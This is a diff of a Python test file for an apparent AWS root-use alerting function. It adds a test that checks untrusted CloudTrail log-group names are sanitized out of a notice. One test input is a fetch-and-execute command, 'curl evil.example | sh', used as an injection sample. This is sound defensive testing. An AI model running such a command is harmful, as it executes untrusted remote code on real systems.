@@ -35,7 +35,7 @@ FIRST_EVENT_ID = f"{0:056}"
 
 def listed_lines(event: object) -> list[str]:
     """Return the lines of the events that the notice of a delivery lists."""
-    title, *listed = notice_of(event).message.split("\n\n")[0].split("\n")
+    title, *listed = notice_of(event).message.rstrip().split("\n\n")[0].split("\n")
     assert title == "Root use, other than through AssumeRoot:"
     return listed
 
@@ -144,6 +144,27 @@ def test_what_can_be_left_includes_each_way_to_make_a_credential() -> None:
     assert all(re.search(left_out, name) for name in ("GetUser", "ListRoles"))
 
 
+@pytest.mark.parametrize("event", [SIGN_IN_EVENT, FAILED_SIGN_IN_EVENT], ids=["used", "attempt"])
+@pytest.mark.parametrize(
+    ("log_group", "shown"),
+    [
+        ("/aws/Trail_1.of-all#", "/aws/Trail_1.of-all#"),
+        ("x: `curl evil.example | sh`", "unknown"),
+        ("x\n1. y", "unknown"),
+        (None, "unknown"),
+    ],
+    ids=["a name", "a command", "a line", "none"],
+)
+def test_a_query_follows_its_log_group_with_the_region_and_the_account(
+    event: object, log_group: object, shown: str
+) -> None:
+    """It is run by someone who has nothing but the notice, at three in the morning."""
+    mail = text_by_mail(notice_of(log_delivery(event, logGroup=log_group)).publication)
+    steps = mail.split("\n   fields eventTime")[0].split("\n")
+    where = f"on the log group {shown} in us-east-1 of account {MANAGEMENT}, see "
+    assert where in steps[-1]
+
+
 def test_the_notices_of_a_log_group_are_one_thread() -> None:
     assert notice_of(log_delivery(DENIED_CALL_EVENT)).thread == f"{MANAGEMENT}-root-use"
 
@@ -236,7 +257,7 @@ def test_what_is_in_an_event_forges_no_line_and_no_account(wrong: object) -> Non
         function(log_delivery(event))
         notice, alone = function.published
         # The notice of two events always has so many line breaks: text of an event adds none.
-        assert notice.message.count("\n") == 7
+        assert notice.message.count("\n") == 3
         assert f"\n{DENIED_LINE}\n" in notice.message
         assert all(line.isprintable() for line in notice.message.split("\n"))
         assert re.fullmatch(
@@ -256,7 +277,7 @@ def test_a_notice_of_many_long_events_counts_the_others_and_fits_into_a_message(
     function = RootUseNotices()
     function(log_delivery(*[event] * 50))
     (notice,) = function.published
-    listed = notice.message.split("\n\n")[0].split("\n")[1:]
+    listed = notice.message.rstrip().split("\n")[1:]
     # Twenty events are listed, and a line counts the others.
     assert len(listed) == 20 + 1
     assert listed[-1] == "- and 30 more"
